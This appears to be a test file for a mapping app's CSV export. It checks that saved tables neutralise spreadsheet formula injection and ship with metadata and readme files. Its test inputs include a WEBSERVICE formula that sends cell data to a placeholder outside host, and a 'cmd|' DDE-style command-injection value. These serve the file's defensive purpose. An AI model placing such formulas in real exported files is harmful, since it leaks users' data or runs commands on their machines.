import fc from 'fast-check';
import Papa from 'papaparse';
import { describe, expect, test } from 'vitest';
import { effectOptions } from '../../src/domain/figures/scenario/change-figures';
import { scenarioEffect } from '../../src/domain/figures/scenario/effect';
import { type Choices, openingChoices, VIEW_IDS } from '../../src/domain/model/choices';
import { compareReading } from '../../src/domain/pages/compare/compare-reading';
import { compareTables } from '../../src/domain/pages/compare/compare-tables';
import { missedReading } from '../../src/domain/pages/missed/missed-reading';
import { missedTables } from '../../src/domain/pages/missed/missed-tables';
import { scenarioTables } from '../../src/domain/pages/what-if/scenario-tables';
import { read } from '../../src/domain/read';
import { tableNotes } from '../../src/domain/telling/areas-table';
import { csvText } from '../../src/domain/words/csv-text';
import type { SavedTables } from '../../src/domain/words/saved-table';
import { savedTableFiles, viewTables } from '../../src/export/table-files';
import { decodeChoices } from '../../src/state/link';
import { areasCsv } from './areas-csv';
import { readMade } from './import-fixture';
import { NO_OUTPUT_AREAS } from './no-output-areas';
import { scenarioDataset as dataset } from './published-scenario';

const origin = { link: 'https://map.example/?view=age', madeOn: new Date(2026, 10, 26, 12) };
/** Formulas that would fetch, run or link, in places where a person's or a link's text comes in. */
const FORMULA = '=WEBSERVICE("http://elsewhere.example/"&A2)';
const opening = openingChoices('overview');
const hostile: Choices = {
  ...decodeChoices(`?find=${encodeURIComponent(`,${FORMULA},`)}`, dataset).choices,
  layout: 'what-if',
  scenario: {
    name: FORMULA,
    changes: [
      { kind: 'close', point: dataset.accessPoints.find(({ status }) => status === 'open')?.id ?? '' },
    ],
  },
};
const scenario = (): SavedTables => {
  const choices = { ...hostile, filter: opening.filter };
  const reading = read(dataset, choices);
  const effect = scenarioEffect(dataset, choices.scenario, effectOptions(choices));
  if (!effect) throw new Error('The test has no output areas');
  return scenarioTables(dataset, reading, effect);
};
const PAGES: Readonly<Record<string, () => SavedTables>> = {
  'what if': scenario,
  compare: () =>
    compareTables(
      dataset,
      compareReading(dataset, { ...opening, layout: 'compare', compared: dataset.codes.slice(0, 3) }),
    ),
  'who we miss': () => missedTables(dataset, missedReading(dataset, { ...opening, layout: 'missed' })),
};

/** One heading row, each name once, and under it rows of as many cells: what sorts and pivots. */
function expectPlainTable(csv: string): readonly string[][] {
  expect(csv.startsWith('\uFEFF')).toBe(true);
  const { data, errors } = Papa.parse<string[]>(csv.slice(1).replace(/\r\n$/, ''), { newline: '\r\n' });
  expect(errors).toEqual([]);
  const [heading = [], ...rows] = data;
  expect(new Set(heading).size).toBe(heading.length);
  for (const cells of rows) expect(cells).toHaveLength(heading.length);
  for (const cell of data.flat())
    if (/^[=+\-@\t\r\n＝＋－＠]/.test(cell)) expect(cell).toMatch(/^-\d+(\.\d+)?$/);
  return data;
}

test('no cell starts a formula, whatever it holds, and every text comes back', () => {
  fc.assert(
    fc.property(
      fc.array(
        fc.oneof(
          fc.string({ unit: 'grapheme' }),
          fc.constantFrom(
            FORMULA,
            '@x',
            '\n=1',
            '＝1',
            '-2+3',
            'Hub;=cmd|x',
            'a";=1;+2',
            'b\t@c',
            ';=1',
            'a\n=1',
          ),
        ),
        {
          minLength: 1,
        },
      ),
      (cells) => {
        const [[, ...read] = []] = Papa.parse<string[]>(
          csvText([['x', ...cells]])
            .slice(1)
            .replace(/\r\n$/, ''),
          {
            newline: '\r\n',
            delimiter: ',',
          },
        ).data;
        cells.forEach((cell, at) => {
          expect(read[at]).not.toMatch(/^[=+\-@\t\r\n＝＋－＠]/);
          // nor where a semicolon parts cells, as it does where a comma is the decimal sign, nor behind a line break
          expect(read[at]).not.toMatch(/[;\t\r\n][=+\-@＝＋－＠]/);
          const back = (text: string | undefined) =>
            text?.replace(/^'(?=[=+\-@\t\r\n＝＋－＠])|(?<=[;\t\r\n])'(?=[=+\-@＝＋－＠])/g, '');
          expect(back(read[at])).toBe(back(cell));
        });
      },
    ),
  );
  expect(csvText([['a'], [-1.5]])).toBe('\uFEFFa\r\n-1.5\r\n');
});

describe('a table that is saved', () => {
  test.each(VIEW_IDS)('is rows under one heading: the areas of the view %s', (view) => {
    const reading = read(dataset, openingChoices(view));
    const data = expectPlainTable(areasCsv(dataset, reading));
    expect(data.slice(1).map(([code]) => code)).toEqual(reading.order.map((row) => dataset.codes[row]));
  });

  test('holds no text of a link, which goes into its notes', () => {
    const reading = read(dataset, { ...hostile, layout: 'table' });
    const csv = areasCsv(dataset, reading);
    expectPlainTable(csv);
    expect(csv).not.toContain('WEBSERVICE');
    expect(tableNotes(dataset, reading).join(' ')).toContain('WEBSERVICE');
  });

  test.each(Object.entries(PAGES))('is rows under one heading, each column explained: %s', (_, tables) => {
    const saved = tables();
    const files = savedTableFiles(saved, origin);
    const texts = new Map(files.map(({ name, content }) => [name, String(content)]));
    const readme = texts.get('readme.txt') ?? '';
    for (const table of saved.tables) {
      const data = expectPlainTable(texts.get(`${table.name}.csv`) ?? '');
      const dictionary = JSON.parse(texts.get(`${table.name}.csv-metadata.json`) ?? '');
      expect(dictionary.tableSchema.columns.map(({ name }: { name: string }) => name)).toEqual(data[0]);
      expect(dictionary.dialect).toEqual({ encoding: 'utf-8', header: true });
      for (const { name, title } of table.columns) expect(readme).toContain(`${name}: ${title}`);
      for (const said of saved.attribution) expect(dictionary['dc:rights']).toContain(said);
    }
    expect(saved.tables.length).toBeGreaterThan(0);
    expect(saved.attribution.length).toBeGreaterThan(0);
    for (const said of [saved.title, origin.link, ...saved.notes, ...saved.attribution])
      expect(readme).toContain(said);
  });

  test('has beside it what was filtered, the sources, how to credit them, the link and the columns', () => {
    const choices: Choices = {
      ...opening,
      filter: { ...opening.filter, rules: [{ kind: 'ruralUrban', is: 'rural' }] },
    };
    const reading = read(dataset, choices);
    const files = savedTableFiles(viewTables(dataset, reading, 'somerset'), origin);
    expect(files.map(({ name }) => name)).toEqual([
      'somerset.csv',
      'somerset.csv-metadata.json',
      'readme.txt',
    ]);
    const [csv = '', dictionary = '', readme = ''] = files.map(({ content }) => String(content));
    expect(csv).not.toContain(reading.title);
    for (const text of [dictionary, readme])
      for (const said of [reading.filter?.text ?? '?', reading.oldest, ...reading.attribution])
        expect(text).toContain(said);
    expect(readme).toContain(origin.link);
    for (const name of csv.slice(1).split('\r\n')[0]?.split(',') ?? [])
      expect(readme).toContain(`  ${name}: `);
  });
});

describe('our own table, when it is added', () => {
  const readBack = async (csv: string) => {
    const reading = await readMade(csv, 'somerset-digital-inclusion.csv');
    return { reading, figures: 'figures' in reading.draft ? reading.draft.figures : [] };
  };

  test.each(VIEW_IDS)('comes back clean: every row finds its area, none has a problem (%s)', async (view) => {
    const made = read(dataset, openingChoices(view));
    const { reading, figures } = await readBack(areasCsv(dataset, made));
    expect(reading.problems).toEqual([]);
    expect(reading.problemCount).toBe(0);
    expect(reading.draft.match).toEqual({ matched: made.order.length, notOurs: 0, unknown: 0, faulty: 0 });
    const residents = figures.find(({ title }) => title === 'residents');
    const held = dataset.counts.get('residents');
    for (const row of made.order) expect(residents?.column.values[row]).toBe(held?.values[row]);
  });

  test('so does the effect of a what-if on the areas', async () => {
    const [byArea] = savedTableFiles(scenario(), origin);
    const { reading } = await readBack(String(byArea?.content));
    expect(reading.problems).toEqual([]);
    expect(reading.draft.match.matched).toBe(dataset.count);
  });
});

test('a what-if that cannot be computed saves why, and no table', () => {
  const without = { ...dataset, outputAreas: NO_OUTPUT_AREAS };
  const choices = { ...hostile, filter: opening.filter };
  const effect = scenarioEffect(dataset, choices.scenario, effectOptions(choices));
  if (!effect) throw new Error('The test has no output areas');
  const saved = scenarioTables(without, read(without, choices), effect);
  expect(saved.tables).toEqual([]);
  expect(saved.notes[0]).toMatch(/who gains and who loses/);
});
